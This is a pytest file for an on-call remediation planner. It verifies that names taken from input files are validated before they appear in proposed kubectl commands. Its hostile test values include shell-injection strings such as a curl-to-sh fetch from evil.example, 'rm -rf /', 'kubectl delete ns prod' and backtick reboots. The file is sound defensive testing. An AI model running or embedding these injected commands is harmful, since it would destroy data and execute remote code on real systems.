"""Names from input files never become shell words in a proposed command."""

from __future__ import annotations

import shlex

import pytest

from oncall.model import Hypothesis
from oncall.remediate import plan_remediations
from oncall.remediate.safety import (
    check,
    command,
    is_dns1123_label,
    is_dns1123_subdomain,
    is_safe_token,
)
from oncall.sources import ScenarioSource
from tests.helpers import REPO

HOSTILE = [
    "checkout; kubectl delete ns prod",
    "$(curl -s https://evil.example/x | sh)",
    "`reboot`",
    "checkout && rm -rf /",
    "checkout|sh",
    "--all-namespaces",
    "-n",
    "Checkout",  # upper case cannot name a Kubernetes object
    "check out",
    "checkout\nkubectl delete ns prod",
    "a" * 64,  # a label is at most 63 characters
    "",
]


@pytest.mark.parametrize("name", ["checkout", "ts-order-service", "a", "web-2", "x" * 63])
def test_valid_dns1123_labels_pass(name: str) -> None:
    assert is_dns1123_label(name) and is_dns1123_subdomain(name)


@pytest.mark.parametrize("name", HOSTILE)
def test_hostile_or_invalid_labels_fail(name: str) -> None:
    assert not is_dns1123_label(name)


def test_subdomain_allows_dots_but_not_empty_parts() -> None:
    assert is_dns1123_subdomain("checkout.v2")
    assert not is_dns1123_subdomain("checkout..v2")
    assert not is_dns1123_subdomain(".checkout")
    assert not is_dns1123_subdomain("a" * 254)


@pytest.mark.parametrize("value", ["cfg-2291", "41aa07b", "v1.2.3", "con_7780"])
def test_plain_tokens_pass(value: str) -> None:
    assert is_safe_token(value)


@pytest.mark.parametrize("value", ["cfg-1; rm -rf /", "41aa07b`reboot`", "--to-revision=1",
                                   "-x", "a b", "$(id)", "x" * 129, ""])
def test_tokens_with_shell_syntax_or_option_shape_fail(value: str) -> None:
    assert not is_safe_token(value)


def test_check_refuses_each_bad_value_with_a_reason() -> None:
    ok = check("checkout", "prod --all-namespaces", "$(curl x)", "cfg-1; rm -rf /", "41aa`x`")
    assert ok.service == "checkout"
    assert (ok.namespace, ok.pod, ok.change, ok.revision) == (None, None, None, None)
    assert len(ok.refused) == 4
    assert any("namespace" in r and "DNS-1123" in r for r in ok.refused)


def test_command_quotes_every_word() -> None:
    line = command("kubectl", "rollout", "undo", "deployment/x y", "-n", "a;b")
    assert shlex.split(line) == ["kubectl", "rollout", "undo", "deployment/x y", "-n", "a;b"]
    assert command("kubectl", "rollout", "restart", "deployment/checkout") == (
        "kubectl rollout restart deployment/checkout")


@pytest.mark.parametrize("kind", ["deploy", "config", "flag", "cert", "capacity", "network",
                                  "dependency", "code", "infra"])
@pytest.mark.parametrize("service", HOSTILE[:-1])
def test_unsafe_service_gets_no_command_only_escalation(kind: str, service: str) -> None:
    hyp = Hypothesis(service=service, kind=kind, score=0.9, change="cfg-1", pod=None)
    plan = plan_remediations([hyp], {}, "shop", {"cfg-1": "41aa07b"})
    assert [(r.action, r.command) for r in plan] == [("escalate", "")]
    assert "not executable" in plan[0].rationale and "DNS-1123" in plan[0].rationale
    assert plan[0].target == service  # who to page is still named


def test_unsafe_namespace_withholds_kubectl_but_keeps_the_move() -> None:
    hyp = Hypothesis(service="checkout", kind="deploy", score=0.9, change="dep-1")
    plan = plan_remediations([hyp], {}, "prod --all-namespaces")
    rollback = next(r for r in plan if r.action == "rollback")
    assert rollback.command == ""
    assert "not executable" in rollback.rationale and "namespace" in rollback.rationale
    assert all("--all-namespaces" not in r.command for r in plan)


def test_unsafe_pod_falls_back_to_the_deployment() -> None:
    hyp = Hypothesis(service="checkout", kind="network", score=0.9, pod="x; reboot")
    (first, *_) = plan_remediations([hyp], {}, "shop")
    assert first.command == "kubectl rollout restart deployment/checkout -n shop"
    assert "left out of the command" in first.rationale


def test_unsafe_change_id_and_revision_never_reach_a_command() -> None:
    hyp = Hypothesis(service="checkout", kind="config", score=0.9, change="cfg-1; rm -rf /")
    plan = plan_remediations([hyp], {}, "shop", {"cfg-1; rm -rf /": "41aa07b`reboot`"})
    revert = next(r for r in plan if r.action == "config_revert")
    assert revert.command == ""  # a revert that cannot name its change is not runnable
    assert all("rm -rf" not in r.command and "reboot" not in r.command for r in plan)


def test_unsafe_revision_is_left_out_but_the_revert_stays_runnable() -> None:
    hyp = Hypothesis(service="checkout", kind="config", score=0.9, change="cfg-1")
    plan = plan_remediations([hyp], {}, "shop", {"cfg-1": "41aa07b`reboot`"})
    revert = next(r for r in plan if r.action == "config_revert")
    assert revert.command and "reboot" not in revert.command and "cfg-1" in revert.command


def test_committed_shell_case_through_the_pipeline() -> None:
    from oncall.pipeline import triage

    out = triage(ScenarioSource(REPO / "evals" / "redteam" / "shell-metacharacters"))
    remediations = [r for inc in out.incidents for r in inc.remediations]
    assert remediations
    for rem in remediations:
        for planted in (";", "$(", "`", "--all-namespaces", "|"):
            assert planted not in rem.command, rem.command
